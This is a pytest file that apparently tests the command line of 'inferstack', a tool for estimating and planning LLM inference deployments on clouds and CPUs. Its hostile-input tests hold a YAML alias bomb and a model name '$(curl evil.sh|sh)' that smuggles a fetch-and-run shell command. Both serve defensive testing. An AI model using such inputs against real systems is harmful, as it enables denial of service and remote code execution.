"""The command line, run as a user runs it: exit codes, JSON keys, and errors without tracebacks."""

import io
import json
import os
import re
import resource
import subprocess
import sys
import time
from collections import Counter
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
WORKLOADS = ROOT / "examples" / "workloads"
ESTIMATE_KEYS = {
    "weights_gib",
    "kv_cache_bytes_per_token",
    "kv_cache_gib",
    "overhead_gib",
    "total_gib",
    "fits",
    "max_concurrency",
    "kv_cache_capacity_tokens",
    "ttft_ms",
    "tpot_ms",
    "e2e_latency_ms",
    "output_tokens_per_s",
    "prefill_tokens_per_s",
    "requests_per_s",
}


def inferstack(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "inferstack.cli", *args], capture_output=True, text=True, cwd=ROOT, timeout=120
    )


def flat(text: str) -> str:
    """Output with its line wrapping undone: tables and notes are wrapped to the terminal's width."""
    return " ".join(text.split())


def test_estimate_json_has_the_documented_keys_and_hand_checked_values():
    result = inferstack("estimate", "--model", "llama-3.1-8b", "--gpu", "H100-SXM", "--precision", "bf16", "--json")
    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout)
    assert data.keys() >= ESTIMATE_KEYS
    assert data["kv_cache_bytes_per_token"] == 131_072
    assert data["weights_gib"] == pytest.approx(14.96, abs=0.01)
    assert data["fits"] is True


def test_estimate_with_several_gpus_reports_weights_per_gpu():
    one = json.loads(inferstack("estimate", "--model", "llama-3.1-70b", "--gpu", "A100-SXM4-80GB", "--json").stdout)
    four = json.loads(
        inferstack("estimate", "--model", "llama-3.1-70b", "--gpu", "A100-SXM4-80GB", "--gpus", "4", "--json").stdout
    )
    assert four["weights_gib"] == pytest.approx(one["weights_gib"] / 4)
    assert one["fits"] is False and four["fits"] is True


def test_estimate_max_concurrency_uses_every_sequence_that_fits():
    data = json.loads(
        inferstack(
            "estimate",
            "--model",
            "llama-3.1-8b",
            "--gpu",
            "L40S",
            "--concurrency",
            "max",
            "--input-tokens",
            "1000",
            "--output-tokens",
            "200",
            "--json",
        ).stdout
    )
    assert data["concurrency"] == data["max_concurrency"] > 1


def cpu_decode_tokens_per_s(precision: str, cores: int) -> float:
    result = inferstack(
        "estimate",
        "--model",
        "llama-2-7b",
        "--cpu-cores",
        str(cores),
        "--cpu-mem-bw-gbps",
        "307.2",
        "--cpu-isa",
        "amx",
        "--cpu-ghz",
        "2.2",
        "--precision",
        precision,
        "--output-tokens",
        "128",
        "--input-tokens",
        "1",
        "--json",
    )
    return 1000 / json.loads(result.stdout)["tpot_ms"]


def test_estimate_on_cpu_respects_the_memory_roofline():
    # Properties of the mechanism, not a calibration row (the CPU constants are fitted on every llama.cpp CPU row,
    # so asserting one of them would test the fit on its own data): decode can never stream the weights faster
    # than DRAM allows, and on a saturated socket it speeds up by the byte ratio of the formats.
    q4_bytes = 6.74e9 * 4.5 / 8
    rate_q4 = cpu_decode_tokens_per_s("q4_0", cores=56)
    assert rate_q4 < 307.2e9 / q4_bytes
    rate_q8 = cpu_decode_tokens_per_s("q8_0", cores=56)
    assert rate_q4 / rate_q8 == pytest.approx(8.5 / 4.5, rel=0.05)


ENCODER_ON_CPU = ("--model", "bert-base", "--cpu-cores", "16", "--cpu-mem-bw-gbps", "307.2", "--cpu-isa", "amx")


def test_estimate_of_an_encoder_with_zero_output_tokens_reports_items_and_no_token_figures():
    result = inferstack("estimate", *ENCODER_ON_CPU, "--precision", "int8", "--output-tokens", "0", "--json")
    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout)
    assert data["output_tokens"] == 0
    assert data["tpot_ms"] is None and data["ttft_ms"] is None and data["output_tokens_per_s"] is None
    assert data["items_per_s"] > 0


def test_estimate_of_an_encoder_at_concurrency_max_reports_its_saturated_throughput():
    result = inferstack("estimate", *ENCODER_ON_CPU, "--concurrency", "max", "--json")
    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout)
    assert data["concurrency"] == 64
    assert data["items_per_s"] == data["requests_per_s"] > 0


def test_estimate_table_of_an_encoder_says_n_a_for_tpot():
    result = inferstack("estimate", *ENCODER_ON_CPU, "--output-tokens", "0")
    assert result.returncode == 0, result.stderr
    tpot_row = next(line for line in result.stdout.splitlines() if "tpot_ms" in line)
    assert "n/a" in tpot_row


def test_estimate_of_a_decoder_llm_refuses_zero_output_tokens():
    result = inferstack("estimate", "--model", "llama-3.1-8b", "--gpu", "L4", "--output-tokens", "0")
    assert result.returncode == 2
    assert "--output-tokens: must be at least 1 for llama-3.1-8b" in result.stderr
    assert "Traceback" not in result.stderr


def test_estimate_refuses_negative_output_tokens():
    result = inferstack("estimate", *ENCODER_ON_CPU, "--output-tokens", "-1")
    assert result.returncode == 2 and "must be 0 or more, got -1" in result.stderr


def test_plan_of_an_encoder_with_a_tpot_target_is_an_error_naming_the_field(tmp_path):
    workload = tmp_path / "w.yaml"
    workload.write_text("model: bert-base\ntraffic: {requests_per_s: 20}\nslo: {tpot_p95_ms: 40}\n")
    result = inferstack("plan", str(workload))
    assert result.returncode == 2
    assert "slo.tpot_p95_ms: does not apply to bert-base" in result.stderr and "Traceback" not in result.stderr


def test_plan_table_of_an_encoder_says_n_a_for_ttft_and_tpot():
    result = inferstack("plan", str(WORKLOADS / "embeddings-bert.yaml"))
    assert result.returncode == 0, result.stderr
    tpot_rows = [line for line in result.stdout.splitlines() if "TPOT p95" in line]  # one a table
    assert sum(row.count("n/a") for row in tpot_rows) == 4  # one per cloud


def test_unknown_gpu_is_a_clear_error_not_a_traceback():
    result = inferstack("estimate", "--model", "llama-3.1-8b", "--gpu", "H900")
    assert result.returncode == 2
    assert "--gpu: is not a known accelerator id (got 'H900')" in result.stderr
    assert "Traceback" not in result.stderr


def test_unknown_model_is_a_clear_error():
    result = inferstack("estimate", "--model", "gpt-7", "--gpu", "L4")
    assert result.returncode == 2 and "is not a built-in model" in result.stderr and "Traceback" not in result.stderr


def test_plan_prints_every_cloud_and_the_best(tmp_path):
    result = inferstack("plan", str(WORKLOADS / "chat-8b-public.yaml"), "--json")
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert [c["cloud"] for c in report["clouds"]] == ["aws", "gcp", "alibaba", "huawei"]
    assert report["best"]["price"]["monthly_ranking"]["currency"] == "USD"


def test_plan_table_for_people():
    result = inferstack("plan", str(WORKLOADS / "embeddings-bert.yaml"))
    assert result.returncode == 0, result.stderr
    assert "Best overall" in result.stdout and "huawei" in result.stdout


def test_infeasible_plan_exits_3_with_reasons_and_suggestions(tmp_path):
    workload = tmp_path / "w.yaml"
    workload.write_text(
        "model: llama-3.1-405b\ntraffic: {concurrent_users: 4}\nslo: {ttft_p95_ms: 10}\nplacement: {clouds: [aws]}\n"
    )
    result = inferstack("plan", str(workload))
    assert result.returncode == 3
    assert "misses the TTFT target" in result.stdout and "→ with " in result.stdout
    assert "Traceback" not in result.stderr


def test_negative_qps_is_rejected_before_planning(tmp_path):
    workload = tmp_path / "w.yaml"
    workload.write_text("model: bert-base\ntraffic: {requests_per_s: -5}\n")
    result = inferstack("plan", str(workload))
    assert result.returncode == 2
    assert "traffic.requests_per_s" in result.stderr and "-5" in result.stderr and "Traceback" not in result.stderr


@pytest.mark.parametrize("command", ["models", "gpus", "catalog"])
def test_listings_as_json(command):
    result = inferstack(command, "--json")
    assert result.returncode == 0, result.stderr
    assert len(json.loads(result.stdout)) > 10


def test_diff_of_two_workloads_is_markdown_for_a_pull_request():
    result = inferstack("diff", str(WORKLOADS / "kb-qa-7b-internal.yaml"), str(WORKLOADS / "chat-8b-public.yaml"))
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("### inferstack plan diff")


def test_diff_with_a_bad_base_ref_is_a_clear_error():
    result = inferstack("diff", "--base-ref", "no-such-ref-xyz", str(WORKLOADS / "chat-8b-public.yaml"))
    assert result.returncode == 2 and "Traceback" not in result.stderr and "no-such-ref-xyz" in result.stderr


def test_manifest_lists_every_file_with_size_and_sha256(tmp_path):
    (tmp_path / "model.gguf").write_bytes(b"weights")
    result = inferstack("manifest", str(tmp_path))
    assert result.returncode == 0, result.stderr
    manifest = json.loads((tmp_path / "manifest.json").read_text())
    sha256_of_weights = "9a129038d9a00aed0cf6a7ea059ca50a813449061ab87848cf1a13eafdf33b2c"
    assert manifest["files"] == [{"path": "model.gguf", "size": 7, "sha256": sha256_of_weights}]


# ---- hostile and broken input: a clear error, in bounded time and memory, never a traceback ----------------


def inferstack_bounded(*args: str, memory_gib: float = 1.0, timeout_s: float = 30) -> subprocess.CompletedProcess[str]:
    """`inferstack ARGS` with an address-space limit, so that a regression fails the test, not the machine."""

    def limit_memory() -> None:
        limit = int(memory_gib * 2**30)
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

    return subprocess.run(
        [sys.executable, "-m", "inferstack.cli", *args],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=timeout_s,
        preexec_fn=limit_memory,
    )


def test_plan_refuses_a_yaml_alias_bomb_at_once(tmp_path):
    # 9 levels of 9 aliases: ~400 bytes that expand to 387 million strings (5.5 GB and minutes before the fix)
    lines = ['l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]" for i in range(1, 9)]
    (tmp_path / "bomb.yaml").write_text("\n".join([*lines, "model: *l8", "traffic: {requests_per_s: 1}"]))
    started = time.perf_counter()
    result = inferstack_bounded("plan", str(tmp_path / "bomb.yaml"))
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "WORKLOAD: expands to more than 10000 values (YAML aliases count at each use)" in result.stderr
    assert time.perf_counter() - started < 10


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"model: llama-3.1-8b\nname: caf\xe9\n", "WORKLOAD: is not UTF-8 text (byte 0xe9 at offset 29)"),
        (b"[" * 100_000 + b"]" * 100_000, "WORKLOAD: nests deeper than 32 levels"),
        (b"model: &m [*m]\n", "WORKLOAD: contains itself"),
        (b"model: [unclosed\n", "WORKLOAD: cannot be parsed: did not find expected ',' or ']' (line 2, column 1)"),
    ],
    ids=["latin-1", "deep", "recursive-alias", "syntax"],
)
def test_plan_of_a_broken_workload_file_is_a_one_line_error(tmp_path, content, expected):
    suffix = ".json" if content.startswith(b"[") else ".yaml"
    (tmp_path / f"w{suffix}").write_bytes(content)
    result = inferstack_bounded("plan", str(tmp_path / f"w{suffix}"))
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert expected in result.stderr


def test_plan_of_a_directory_says_it_is_a_directory_and_of_a_missing_file_that_it_is_missing():
    directory = inferstack("plan", ".")
    assert directory.returncode == 2 and "WORKLOAD: is a directory, not a file (got '.')" in directory.stderr
    missing = inferstack("plan", "no-such-workload.yaml")
    assert missing.returncode == 2 and "WORKLOAD: file not found (got 'no-such-workload.yaml')" in missing.stderr


def test_plan_refuses_a_model_name_that_would_run_in_a_shell_before_planning(tmp_path):
    (tmp_path / "w.yaml").write_text(
        "model: {registry: llama-3.1-8b, name: '$(curl evil.sh|sh)'}\ntraffic: {requests_per_s: 1}\n"
    )
    result = inferstack("plan", str(tmp_path / "w.yaml"))
    assert result.returncode == 2 and result.stdout == ""
    assert "model.name: String should match pattern" in result.stderr and "'$(curl evil.sh|sh)'" in result.stderr


def test_plan_refuses_a_region_flag_that_is_no_region_name():
    result = inferstack("plan", str(WORKLOADS / "chat-8b-public.yaml"), "--cloud", "aws", "--region", "us-east-1\n")
    assert result.returncode == 2 and "argument --region: must be a region name" in result.stderr


def test_plan_with_a_malformed_price_file_names_the_flag_and_the_line(tmp_path):
    (tmp_path / "prices.yaml").write_text("prices: [unclosed\n")
    result = inferstack("plan", str(WORKLOADS / "chat-8b-public.yaml"), "--prices", str(tmp_path / "prices.yaml"))
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "--prices: cannot be parsed: did not find expected ',' or ']' (line 2, column 1)" in result.stderr


@pytest.mark.parametrize(
    ("given", "used"), [("BF16", "bf16"), ("bfloat16", "bf16"), ("int4", "int4-awq"), ("Q4_K_M", "q4_k_m")]
)
def test_estimate_takes_the_precision_spellings_workload_files_take(given, used):
    result = inferstack("estimate", "--model", "llama-3.1-8b", "--gpu", "L4", "--precision", given, "--json")
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["precision"] == used


def test_estimate_refuses_an_unknown_precision_with_the_valid_ones():
    result = inferstack("estimate", "--model", "llama-3.1-8b", "--gpu", "L4", "--precision", "int3")
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "argument --precision: must be one of fp32, fp16, bf16" in result.stderr
    assert "(or int4, awq, gptq" in result.stderr and "got 'int3'" in result.stderr


def test_preview_without_pulumi_says_which_extra_to_install():
    hide_pulumi = (
        "import sys; sys.modules['pulumi'] = None; from inferstack.cli import main; "
        f"raise SystemExit(main(['preview', {str(WORKLOADS / 'chat-8b-public.yaml')!r}, '--cloud', 'aws']))"
    )
    result = subprocess.run([sys.executable, "-c", hide_pulumi], capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr == ("error: inferstack preview --cloud aws needs Pulumi and the AWS provider (pulumi is not "
                             "installed). Fix: pip install 'inferstack[aws]'\n")


def test_estimate_refuses_a_gpu_count_that_does_not_divide_the_attention_heads():
    result = inferstack("estimate", "--model", "llama-3.1-8b", "--gpu", "H100-SXM", "--gpus", "3")
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "--gpus: llama-3.1-8b cannot be split that way" in result.stderr
    assert "32 attention heads" in result.stderr and "(got 3)" in result.stderr and "use 1, 2, 4 or 8" in result.stderr


@pytest.mark.parametrize("utilization", ["1.5", "0", "lots"])
def test_estimate_refuses_a_memory_utilization_outside_zero_to_one(utilization):
    result = inferstack("estimate", "--model", "llama-3.1-8b", "--gpu", "L4", "--gpu-memory-utilization", utilization)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "argument --gpu-memory-utilization: must be" in result.stderr and "(0, 1]" in result.stderr
    assert utilization in result.stderr


def test_plan_region_without_cloud_that_several_clouds_use_asks_for_cloud():
    result = inferstack("plan", str(WORKLOADS / "chat-8b-public.yaml"), "--region", "us-east-1")
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "--region: could be a region of aws or alibaba (got 'us-east-1')" in result.stderr  # Huawei has none
    assert "--cloud aws" in result.stderr


def test_plan_region_without_cloud_plans_on_the_cloud_the_region_belongs_to():
    result = inferstack("plan", str(WORKLOADS / "chat-8b-public.yaml"), "--region", "us-central1", "--json")
    assert result.returncode == 0, result.stderr
    assert [c["cloud"] for c in json.loads(result.stdout)["clouds"]] == ["gcp"]


def test_plan_with_an_unknown_accelerator_name_is_a_clear_error(tmp_path):
    workload = tmp_path / "w.yaml"
    workload.write_text((WORKLOADS / "chat-8b-public.yaml").read_text() + "placement:\n  gpus_allow: [H1OO]\n")
    result = inferstack("plan", str(workload))
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "placement.gpus_allow[0]: is not a known accelerator (got 'H1OO')" in result.stderr
    assert "H100-SXM" in result.stderr


def test_gpus_listing_shows_the_visible_memory_and_compute_capability():
    rows = {row["id"]: row for row in json.loads(inferstack("gpus", "--json").stdout)}
    assert rows["L40S"]["visible_gib"] == 44.72 and rows["L40S"]["compute_capability"] == 8.9
    assert rows["T4"]["compute_capability"] == 7.5


def test_a_budget_no_priced_offer_meets_exits_3_naming_the_cheapest_priced_option(tmp_path):
    workload = tmp_path / "w.yaml"
    workload.write_text((WORKLOADS / "chat-8b-public.yaml").read_text() + "placement: {monthly_budget: 100}\n")
    result = inferstack("plan", str(workload))
    assert result.returncode == 3, result.stdout  # was 0, with an unpriced p5e.48xlarge chosen on AWS
    assert result.stderr == (
        "error: no deployment with a known price fits the monthly budget of 100.00 USD: the cheapest priced one "
        "that meets the targets is 5x g6e.xlarge (1x L40S) on aws us-east-1, 6,792.65 USD/month; offers without a "
        "known price cannot be shown to meet a budget\n"
    )
    assert "p5e.48xlarge in us-east-1: no price known, so it cannot be shown to meet the budget" in flat(result.stdout)


def test_a_budget_in_eur_exits_3_with_the_cost_in_eur(tmp_path):
    workload = tmp_path / "w.yaml"
    workload.write_text((WORKLOADS / "chat-8b-public.yaml").read_text()
                        + "placement: {monthly_budget: 100, currency: EUR}\n")
    result = inferstack("plan", str(workload), "--json")
    assert result.returncode == 3
    assert "monthly budget of 100.00 EUR" in result.stderr and "5x g6e.xlarge (1x L40S) on aws us-east-1, " \
        "5,772.63 EUR/month" in result.stderr
    report = json.loads(result.stdout)
    cost = report["cheapest_over_budget"]["price"]["monthly_ranking"]
    assert cost["currency"] == "EUR" and cost["amount"] == pytest.approx(6792.65 / 1.1767, abs=0.01)  # ECB rate


def test_plan_in_eur_prints_every_cost_in_eur(tmp_path):
    workload = tmp_path / "w.yaml"
    workload.write_text((WORKLOADS / "chat-70b.yaml").read_text() + "placement: {currency: EUR}\n")
    result = inferstack("plan", str(workload))
    assert result.returncode == 0, result.stderr
    assert "Best overall: 1x p4d.24xlarge (8x A100) on aws us-east-1, 13,622.06 EUR/month" in flat(result.stdout)
    assert " USD/month" not in result.stdout and " CNY/month" not in result.stdout


def test_plan_simulate_prints_simulated_beside_predicted_and_adds_a_json_block():
    workload = str(WORKLOADS / "chat-8b-public.yaml")
    table = inferstack("plan", workload, "--cloud", "aws", "--simulate")
    assert table.returncode == 0, table.stderr
    assert "Predicted / simulated" in table.stdout and "TTFT p95 ms" in table.stdout
    result = inferstack("plan", workload, "--cloud", "aws", "--simulate", "--json")
    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout)
    simulated = data["simulated"]["aws"]
    performance = data["clouds"][0]["chosen"]["performance"]
    # Agreement is the simulation grid's test (tests/sizing/test_simulation.py); this plan runs at 79 % of its
    # saturation, where the TTFT closed form still reads low (README, "Fidelity").
    for metric in ("ttft_p95_ms", "tpot_p95_ms", "latency_p95_ms"):
        assert simulated["predicted_" + metric] == performance[metric]
        assert simulated[metric] > 0
    assert f"{simulated['ttft_p95_ms']:,.0f}" in table.stdout


def test_plan_without_simulate_never_imports_simpy():
    code = (
        "import sys, contextlib, io\n"
        "from inferstack.cli import main\n"
        "with contextlib.redirect_stdout(io.StringIO()):\n"
        f"    main(['plan', {str(WORKLOADS / 'chat-8b-public.yaml')!r}, '--json'])\n"
        "print('simpy' in sys.modules)\n"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip().endswith("False")


# ---- at a terminal's width -------------------------------------------------------------------------------


def at_columns(columns: int, *args: str) -> subprocess.CompletedProcess[str]:
    """The command as printed on a terminal `columns` wide (rich reads COLUMNS)."""
    return subprocess.run([sys.executable, "-m", "inferstack.cli", *args], capture_output=True, text=True, cwd=ROOT,
                          timeout=120, env={**os.environ, "COLUMNS": str(columns)})


def whole_word(word: str, text: str) -> bool:
    """`word` appears in `text` with no character of an id on either side, so not cut and not wrapped."""
    return re.search(rf"(?<![\w.+-]){re.escape(word)}(?![\w.+-])", text) is not None


@pytest.mark.parametrize(("command", "id_key"), [("models", "name"), ("gpus", "id"), ("catalog", "instance_type")])
def test_listings_at_100_columns_show_every_id_whole(command, id_key):
    ids = [row[id_key] for row in json.loads(inferstack(command, "--json").stdout)]
    result = at_columns(100, command)
    assert result.returncode == 0, result.stderr
    assert "…" not in result.stdout
    cut = [name for name in ids if not whole_word(name, result.stdout)]
    assert not cut, f"ids not shown whole at 100 columns: {cut}"


def test_catalog_filters_narrow_the_listing_by_cloud_region_and_gpu():
    every = json.loads(inferstack("catalog", "--json").stdout)
    aws_l4 = json.loads(inferstack("catalog", "--cloud", "aws", "--gpu", "l4", "--json").stdout)
    assert aws_l4 == [row for row in every if row["cloud"] == "aws" and row["gpus"].endswith("x L4")]
    singapore = json.loads(inferstack("catalog", "--region", "ap-southeast-1", "--json").stdout)
    assert singapore and singapore == [row for row in every if row["region"] == "ap-southeast-1"]
    a100_80gb = json.loads(inferstack("catalog", "--gpu", "A100-SXM4-80GB", "--json").stdout)  # an id, not a family
    assert {row["cloud"] for row in a100_80gb} >= {"aws", "gcp"} and len(a100_80gb) < len(
        [row for row in every if "A100" in row["gpus"]])
    table = at_columns(100, "catalog", "--cloud", "aws", "--gpu", "L4")
    assert table.returncode == 0 and "aws us-east-1: 6 instance types" in table.stdout
    assert len(table.stdout.splitlines()) < 20  # the whole catalog is ~190 lines


def test_catalog_coverage_counts_the_types_priced_per_region_with_sources_and_age(tmp_path, monkeypatch):
    catalogued = Counter(row["cloud"] for row in json.loads(inferstack("catalog", "--json").stdout))
    prices = tmp_path / "prices.yaml"
    prices.write_text(
        "prices:\n"
        "  - {cloud: huawei, region: xx-test-9, instance_type: pi2.2xlarge.4, price_per_hour: 7.9, currency: CNY,\n"
        "     source: quote 42, date: 2026-11-07}\n"
        "  - {cloud: huawei, region: xx-test-9, instance_type: not-a-catalogued-type, price_per_hour: 1, currency: CNY,"
        "\n     source: quote 42, date: 2026-11-07}\n", encoding="utf-8")
    monkeypatch.setenv("INFERSTACK_TODAY", "2026-12-07")
    rows = json.loads(inferstack("catalog", "--coverage", "--prices", str(prices), "--json").stdout)
    assert {row["cloud"] for row in rows} == set(catalogued)  # a cloud without any price is listed too
    assert all(row["types_catalogued"] == catalogued[row["cloud"]] for row in rows)
    quoted = next(row for row in rows if row["region"] == "xx-test-9")
    assert quoted == {"cloud": "huawei", "region": "xx-test-9", "types_priced": 1, "types_catalogued":
                      catalogued["huawei"], "spot_types_priced": 0, "currencies": "CNY", "sources": ["quote 42"],
                      "oldest_price_days": 30, "undated_prices": 0}
    table = at_columns(100, "catalog", "--coverage", "--cloud", "huawei", "--prices", str(prices))
    assert table.returncode == 0 and re.search(r"xx-test-9\s+1 of \d+\s+0\s+CNY\s+30 days", table.stdout), table.stdout


@pytest.mark.parametrize(
    ("args", "flag", "value", "a_choice"),
    [(("--gpu", "H900"), "--gpu", "H900", "A100-SXM4-80GB"),
     (("--cloud", "aws", "--region", "ap-southeast-1"), "--region", "ap-southeast-1", "us-east-1")],
)
def test_catalog_filter_no_type_matches_is_an_error_naming_the_flag_the_value_and_the_choices(args, flag, value,
                                                                                                a_choice):
    result = inferstack("catalog", *args)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert f"{flag}: matches no instance type" in result.stderr and f"(got {value!r})" in result.stderr
    assert "use one of " in result.stderr and a_choice in result.stderr


def test_version_prints_the_installed_package_version():
    from importlib.metadata import version

    result = inferstack("--version")
    assert result.returncode == 0 and result.stdout == f"inferstack {version('inferstack')}\n"


def test_a_model_config_not_named_config_json_is_named_after_the_file(tmp_path):
    from inferstack.cli import _model_from_config

    config = tmp_path / "configs" / "Tiny-Llama.json"
    config.parent.mkdir()
    config.write_text(json.dumps({"model_type": "llama", "hidden_size": 2048, "num_hidden_layers": 16,
                                  "num_attention_heads": 32, "num_key_value_heads": 8, "intermediate_size": 8192,
                                  "vocab_size": 128256}))
    model = _model_from_config(config)
    assert (model.name, model.display_name) == ("tiny-llama", "Tiny-Llama")  # was "configs", the folder's name
    result = inferstack("estimate", "--model-config", str(config), "--gpu", "L4")
    assert result.returncode == 0 and "tiny-llama on" in result.stdout


# ---- progress ----------------------------------------------------------------------------------------------


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize(("json_flag", "stdout_is_terminal", "shown"),
                         [(False, True, True), (True, True, False), (False, False, False)])
def test_progress_shows_on_a_terminal_only_without_json(monkeypatch, json_flag, stdout_is_terminal, shown):
    import argparse

    from inferstack.cli import _progress

    stderr = Terminal()
    monkeypatch.setattr(sys, "stdout", Terminal() if stdout_is_terminal else io.StringIO())
    monkeypatch.setattr(sys, "stderr", stderr)
    monkeypatch.delenv("CI", raising=False)
    monkeypatch.setenv("TERM", "xterm")
    with _progress(argparse.Namespace(json=json_flag), "Drawing plan.svg…"):
        time.sleep(0.3)
    assert ("Drawing plan.svg…" in stderr.getvalue()) is shown


def test_progress_stays_out_of_ci(monkeypatch):
    import argparse

    from inferstack.cli import _progress

    stderr = Terminal()
    monkeypatch.setattr(sys, "stdout", Terminal())
    monkeypatch.setattr(sys, "stderr", stderr)
    monkeypatch.setenv("CI", "true")
    with _progress(argparse.Namespace(json=False), "Drawing plan.svg…"):
        time.sleep(0.2)
    assert stderr.getvalue() == ""


@pytest.mark.parametrize("columns", [100, 80])
def test_plan_at_100_and_80_columns_shows_every_instance_type_and_gpu_id_whole(columns):
    workload = str(WORKLOADS / "chat-70b.yaml")  # Alibaba's ecs.gn7e-c16g1.16xlarge was cut to ecs.gn7e-c16g1.1…
    report = json.loads(inferstack("plan", workload, "--json").stdout)
    plans = [plan for o in report["clouds"] for plan in (o["chosen"], *o["alternatives"]) if plan]
    ids = {plan["instance_type"] for plan in plans} | {o["chosen"]["accelerator"]["id"] for o in report["clouds"]}
    result = at_columns(columns, "plan", workload)
    assert result.returncode == 0, result.stderr
    assert "…" not in result.stdout and max(map(len, result.stdout.splitlines())) <= columns
    assert not [name for name in ids if not whole_word(name, result.stdout)]
    table_lines = [line for line in result.stdout.splitlines() if line.startswith("│ instance type")]
    assert all(whole_word(o["chosen"]["offer"], "".join(table_lines)) for o in report["clouds"])


SUBCOMMANDS = ["plan", "estimate", "models", "gpus", "catalog", "preview", "diff", "pin", "loadtest", "calibrate",
               "manifest", "status", "logs", "rollout"]


def _subcommands(parser) -> list[str]:
    from argparse import _SubParsersAction

    return next(list(a.choices) for a in parser._actions if isinstance(a, _SubParsersAction))


def test_a_command_line_builds_only_the_subcommand_it_names_and_every_one_otherwise():
    # Start-up time (benchmarks/plan_speed.py): argparse builds a parser per subcommand, so `plan` builds its own.
    from inferstack.cli import build_parser

    assert _subcommands(build_parser("plan")) == ["plan"]
    assert _subcommands(build_parser("gpus")) == ["models", "gpus"]
    assert _subcommands(build_parser()) == SUBCOMMANDS
    assert _subcommands(build_parser("--help")) == SUBCOMMANDS
    assert _subcommands(build_parser("plna")) == SUBCOMMANDS  # argparse names the choices in its error


def test_help_lists_every_subcommand_and_a_misspelt_one_is_told_the_choices():
    listed = inferstack("--help")
    assert listed.returncode == 0
    assert all(re.search(rf"^    {name}\b", listed.stdout, re.MULTILINE) for name in SUBCOMMANDS), listed.stdout
    misspelt = inferstack("plna", "x.yaml")
    assert misspelt.returncode == 2
    assert "invalid choice: 'plna' (choose from 'plan', 'estimate'," in misspelt.stderr


#### Inputs a new user writes: Hugging Face ids, misspelt keys, what does not fit ####


def test_a_hugging_face_id_the_registry_knows_plans_as_its_built_in_model(tmp_path):
    workload = tmp_path / "chat.yaml"
    workload.write_text("name: chat\nmodel: meta-llama/Llama-3.1-8B-Instruct\ntraffic: {concurrent_users: 10}\n")
    by_id = inferstack("plan", str(workload), "--cloud", "aws", "--json")
    workload.write_text("name: chat\nmodel: llama-3.1-8b\ntraffic: {concurrent_users: 10}\n")
    by_name = inferstack("plan", str(workload), "--cloud", "aws", "--json")
    assert by_id.returncode == by_name.returncode == 0, by_id.stderr
    chosen = [json.loads(result.stdout)["clouds"][0]["chosen"] for result in (by_id, by_name)]
    assert chosen[0]["model"] == chosen[1]["model"] and chosen[0]["model"]["name"] == "llama-3.1-8b"
    estimated = inferstack("estimate", "--model", "meta-llama/Llama-3.1-8B-Instruct", "--gpu", "L40S", "--json")
    assert estimated.returncode == 0 and json.loads(estimated.stdout)["fits"] is True


def test_a_hugging_face_id_the_registry_lacks_says_how_to_describe_the_model(tmp_path):
    workload = tmp_path / "chat.yaml"
    workload.write_text("name: chat\nmodel: Qwen/Qwen9-1T\ntraffic: {concurrent_users: 10}\n")
    result = inferstack("plan", str(workload))
    assert result.returncode == 2
    err = flat(result.stderr)
    assert "model: is a Hugging Face id the built-in registry does not have (got 'qwen/qwen9-1t')" in err
    assert "model: {config: path/to/config.json, source_uri: qwen/qwen9-1t}" in err


def test_a_misspelt_key_gets_the_nearest_field_and_a_missing_one_quotes_nothing(tmp_path):
    workload = tmp_path / "chat.yaml"
    workload.write_text("name: chat\nmodel: llama-3.1-8b\ntrafic: {concurrent_users: 10}\nslo: {ttft_p95: 500}\n")
    result = inferstack("plan", str(workload))
    assert result.returncode == 2
    err = flat(result.stderr)
    assert "trafic: is not a known field (got {'concurrent_users': 10}). Fix: did you mean traffic?" in err
    assert "slo.ttft_p95: is not a known field (got 500). Fix: did you mean ttft_p95_ms?" in err
    (missing,) = [line for line in result.stderr.splitlines() if line.startswith("  - traffic:")]
    assert missing.startswith("  - traffic: Field required. Fix:") and "(got" not in missing


def test_an_estimate_that_does_not_fit_exits_3_like_an_infeasible_plan():
    result = inferstack("estimate", "--model", "llama-3.1-70b", "--gpu", "T4", "--json")
    assert result.returncode == 3 and json.loads(result.stdout)["fits"] is False
    assert inferstack("estimate", "--model", "llama-3.1-8b", "--gpu", "L40S").returncode == 0
